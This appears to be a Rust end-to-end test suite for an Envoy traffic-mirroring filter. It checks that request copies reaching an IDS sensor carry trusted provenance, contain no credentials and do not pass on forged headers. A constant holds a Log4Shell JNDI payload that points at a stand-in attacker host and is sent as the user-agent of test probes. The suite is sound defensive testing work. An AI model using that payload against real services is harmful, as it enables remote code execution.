#![cfg(feature = "e2e")]
//! Copies a sensor can trust, in the real Envoy, in both delivery modes
//! (`envoy-config/e2e/mirror_{header,dispatch}.yaml`): provenance (source address, principal,
//! request id, reason, signatures) comes from the connection and the filter, never from the
//! client; a client's headers of those names and its `x-forwarded-for` do not reach the sensor
//! as facts; credentials never reach it; the decision header never reaches the upstream; and a
//! passive IDS can read the copies: `tshark` capturing on loopback dissects them as HTTP.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use meshsight_rig::{send, EchoUpstream, Envoy, HttpRequest, RecordedRequest, Sensor};

const HEADER_TEMPLATE: &str = "envoy-config/e2e/mirror_header.yaml";
const DISPATCH_TEMPLATE: &str = "envoy-config/e2e/mirror_dispatch.yaml";
const LOG4SHELL: &str = "${jndi:ldap://attacker.example/a}";

fn start(template: &str, delivery: &str, upstream: &EchoUpstream, sensor: &Sensor) -> Envoy {
    let policy = format!(
        r#"{{"targets":{{"ids":{{"cluster":"sensor","delivery":"{delivery}","max_rps":1000}}}}}}"#
    );
    Envoy::builder(template)
        .upstream(upstream)
        .sensor(sensor)
        .var("MIRROR_CONFIG", policy)
        .start()
        .unwrap_or_else(|err| panic!("Envoy must start: {err}"))
}

/// A Log4Shell probe that also tries to forge everything a sensor would trust.
fn forged_probe(case: &str) -> HttpRequest {
    HttpRequest::get(format!("/api/items?case={case}"))
        .header("host", "shop.example.com")
        .header("user-agent", LOG4SHELL)
        .header("authorization", "Bearer top-secret")
        .header("cookie", "session=top-secret")
        .header("proxy-authorization", "Basic top-secret")
        .header("x-forwarded-for", "1.2.3.4")
        .header("x-real-ip", "1.2.3.4")
        .header("x-meshsight-mirror-source-address", "6.6.6.6")
        .header(
            "x-meshsight-mirror-source-principal",
            "spiffe://evil/ns/x/sa/y",
        )
        .header("x-meshsight-mirror-reason", "benign")
        .header("x-meshsight-mirror-request-id", "forged")
}

fn all(copy: &RecordedRequest, name: &str) -> Vec<String> {
    copy.headers
        .iter()
        .filter(|(n, _)| n == name)
        .map(|(_, v)| v.clone())
        .collect()
}

/// What both modes promise the sensor; returns the copy's request id.
fn assert_trustworthy(mode: &str, copy: &RecordedRequest, upstream_request_id: &str) {
    for secret in [
        "authorization",
        "cookie",
        "proxy-authorization",
        "x-real-ip",
    ] {
        assert!(
            copy.header(secret).is_none(),
            "[{mode}] {secret} reached the sensor: {:?}",
            copy.headers
        );
    }
    // The first hop is the peer; in header mode Envoy's shadow appends its own entry after it.
    let xff = all(copy, "x-forwarded-for");
    assert_eq!(xff.len(), 1, "[{mode}] {:?}", copy.headers);
    assert_eq!(
        xff[0].split(',').next(),
        Some("127.0.0.1"),
        "[{mode}] {xff:?}"
    );
    assert_eq!(
        all(copy, "x-meshsight-mirror-source-address"),
        vec!["127.0.0.1"],
        "[{mode}]"
    );
    assert!(
        copy.header("x-meshsight-mirror-source-principal").is_none(),
        "[{mode}] no mTLS here, so no principal: {:?}",
        copy.headers
    );
    let claimed = all(copy, "x-meshsight-mirror-claimed-forwarded-for");
    assert_eq!(claimed.len(), 1, "[{mode}] {:?}", copy.headers);
    assert!(
        claimed[0].starts_with("1.2.3.4"),
        "[{mode}] the client's claim, labelled as one: {claimed:?}"
    );
    assert_eq!(
        all(copy, "x-meshsight-mirror-request-id"),
        vec![upstream_request_id.to_string()],
        "[{mode}] the id Envoy gave the request"
    );
    let decision = all(copy, "x-meshsight-mirror-decision");
    assert_eq!(decision.len(), 1, "[{mode}] {:?}", copy.headers);
    assert!(
        decision[0].contains(r#""reason":"signature""#) && decision[0].contains("log4shell"),
        "[{mode}] {decision:?}"
    );
    assert!(
        all(copy, "x-meshsight-mirror-reason")
            .iter()
            .all(|r| r != "benign"),
        "[{mode}] a forged reason reached the sensor: {:?}",
        copy.headers
    );
}

#[test]
fn header_mode_copies_carry_provenance_and_no_secrets() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let envoy = start(HEADER_TEMPLATE, "header", &upstream, &sensor);
    let r = send(envoy.port(), &forged_probe("header"));
    assert_eq!(r.status, 200, "{}", r.text());
    let copy = &sensor.wait_for(1, Duration::from_secs(5))[0];
    let up = &upstream.requests()[0];
    let id = up.header("x-request-id").expect("Envoy sets x-request-id");
    assert_trustworthy("header", copy, id);
    let decision = copy
        .header("x-meshsight-mirror-decision")
        .expect("the filter's decision, from filter state");
    assert!(
        decision.contains(r#""reason":"signature""#) && decision.contains("log4shell"),
        "{decision}"
    );
    // The upstream gets the credentials, but neither the decision nor any forged provenance.
    assert_eq!(up.header("authorization"), Some("Bearer top-secret"));
    assert!(
        up.header("x-meshsight-mirror").is_none(),
        "{:?}",
        up.headers
    );
    assert!(
        !up.headers
            .iter()
            .any(|(n, _)| n.starts_with("x-meshsight-mirror-")),
        "{:?}",
        up.headers
    );
}

#[test]
fn dispatch_mode_copies_carry_provenance_and_no_secrets() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let envoy = start(DISPATCH_TEMPLATE, "dispatch", &upstream, &sensor);
    let r = send(envoy.port(), &forged_probe("dispatch"));
    assert_eq!(r.status, 200, "{}", r.text());
    let copy = &sensor.wait_for(1, Duration::from_secs(5))[0];
    let up = &upstream.requests()[0];
    let id = up.header("x-request-id").expect("Envoy sets x-request-id");
    assert_trustworthy("dispatch", copy, id);
    assert_eq!(all(copy, "x-meshsight-mirror-reason"), vec!["signature"]);
    assert_eq!(
        all(copy, "x-meshsight-mirror-signatures"),
        vec!["log4shell"]
    );
    assert_eq!(all(copy, "x-meshsight-mirror-target"), vec!["ids"]);
    assert_eq!(all(copy, "x-forwarded-for"), vec!["127.0.0.1"]);
}

/// `tshark` capturing loopback traffic to `port` and dissecting it live as HTTP
/// (`-d tcp.port==<port>,http`): one line per HTTP request, tab-separated `fields`.
struct Capture {
    child: Child,
    lines: mpsc::Receiver<String>,
}

impl Capture {
    fn start(port: u16, fields: &[&str]) -> Capture {
        let mut args: Vec<String> = [
            "-i",
            "lo",
            "-l",
            "-f",
            &format!("tcp port {port}"),
            "-d",
            &format!("tcp.port=={port},http"),
            "-Y",
            "http.request",
            "-T",
            "fields",
        ]
        .iter()
        .map(|a| a.to_string())
        .collect();
        for f in fields {
            args.push("-e".to_string());
            args.push((*f).to_string());
        }
        let mut child = Command::new("tshark")
            .args(&args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("tshark is required (apt-get install tshark): {e}"));
        // tshark says "Capturing on 'Loopback: lo'" once dumpcap is capturing.
        let stderr = child.stderr.take().unwrap();
        let mut err_lines = BufReader::new(stderr).lines();
        loop {
            match err_lines.next() {
                Some(Ok(line)) if line.contains("Capturing on") => break,
                Some(Ok(_)) => {}
                _ => panic!("tshark did not start capturing on lo"),
            }
        }
        // Keep draining stderr so that tshark never blocks on it.
        std::thread::spawn(move || for _ in err_lines {});
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        std::thread::sleep(Duration::from_millis(300));
        Capture { child, lines }
    }

    /// The requests dissected within `timeout` (stops after `n`, then waits a little longer
    /// to catch any extra one).
    fn http_requests(mut self, n: usize, timeout: Duration) -> Vec<Vec<String>> {
        let deadline = Instant::now() + timeout;
        let mut got = Vec::new();
        while got.len() < n {
            let left = deadline.saturating_duration_since(Instant::now());
            match self.lines.recv_timeout(left) {
                Ok(line) => got.push(line),
                Err(_) => break,
            }
        }
        while let Ok(line) = self.lines.recv_timeout(Duration::from_millis(500)) {
            got.push(line);
        }
        // SIGINT, not SIGKILL: tshark then stops its dumpcap and reaps it.
        let _ = Command::new("kill")
            .args(["-INT", &self.child.id().to_string()])
            .status();
        let _ = self.child.wait();
        got.iter()
            .map(|l| l.split('\t').map(str::to_string).collect())
            .collect()
    }
}

fn tshark_dissects_the_copies(template: &str, delivery: &str) {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let envoy = start(template, delivery, &upstream, &sensor);
    let capture = Capture::start(
        sensor.port(),
        &[
            "http.request.method",
            "http.request.uri",
            "http.user_agent",
            "http.x_forwarded_for",
            "http.authorization",
            "http.cookie",
            "http.request.line",
        ],
    );
    let r = send(envoy.port(), &forged_probe(delivery));
    assert_eq!(r.status, 200);
    // A benign request: no copy, so nothing on the sensor's port.
    let r = send(envoy.port(), &HttpRequest::get("/api/items?case=benign"));
    assert_eq!(r.status, 200);
    sensor.wait_for(1, Duration::from_secs(5));
    let requests = capture.http_requests(1, Duration::from_secs(10));
    assert_eq!(requests.len(), 1, "[{delivery}] {requests:?}");
    let fields = &requests[0];
    assert_eq!(fields[0], "GET", "[{delivery}] {fields:?}");
    assert_eq!(fields[1], format!("/api/items?case={delivery}"));
    assert_eq!(fields[2], LOG4SHELL, "the indicator as the IDS sees it");
    assert!(
        fields[3].starts_with("127.0.0.1"),
        "the IDS attributes it to the peer: {fields:?}"
    );
    assert_eq!(fields[4], "", "no credentials on the wire");
    assert_eq!(fields[5], "", "no cookies on the wire");
    let lines = &fields[6];
    assert!(
        lines.contains("x-meshsight-mirror-source-address: 127.0.0.1"),
        "[{delivery}] {lines}"
    );
    assert!(
        lines.contains("x-meshsight-mirror-request-id: "),
        "[{delivery}] {lines}"
    );
    assert!(lines.contains("log4shell"), "[{delivery}] {lines}");
}

#[test]
fn tshark_dissects_header_mode_copies_as_http() {
    tshark_dissects_the_copies(HEADER_TEMPLATE, "header");
}

#[test]
fn tshark_dissects_dispatch_mode_copies_as_http() {
    tshark_dissects_the_copies(DISPATCH_TEMPLATE, "dispatch");
}

/// The demo's own config (`envoy-config/envoy.yaml`, `make run`): the upstream (an echo, so the
/// client too) never sees that its request was flagged, and the route's copy carries the
/// provenance and no credentials.
#[test]
fn demo_route_hides_the_decision_and_its_copies_carry_provenance() {
    use meshsight_rig::Collector;
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/envoy.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .start()
        .unwrap_or_else(|err| panic!("the demo config must start: {err}"));
    let r = send(
        envoy.port(),
        &HttpRequest::get("/api/items")
            .header("user-agent", LOG4SHELL)
            .header("authorization", "Bearer top-secret")
            .header("x-forwarded-for", "1.2.3.4"),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(
        !r.text().contains("x-meshsight-mirror"),
        "the echo tells the client it was flagged: {}",
        r.text()
    );
    let copy = &sensor.wait_for(1, Duration::from_secs(5))[0];
    assert!(copy.header("authorization").is_none(), "{:?}", copy.headers);
    assert_eq!(
        copy.header("x-meshsight-mirror-source-address"),
        Some("127.0.0.1")
    );
    let decision = copy.header("x-meshsight-mirror-decision").unwrap_or("");
    assert!(decision.contains("log4shell"), "{:?}", copy.headers);
}
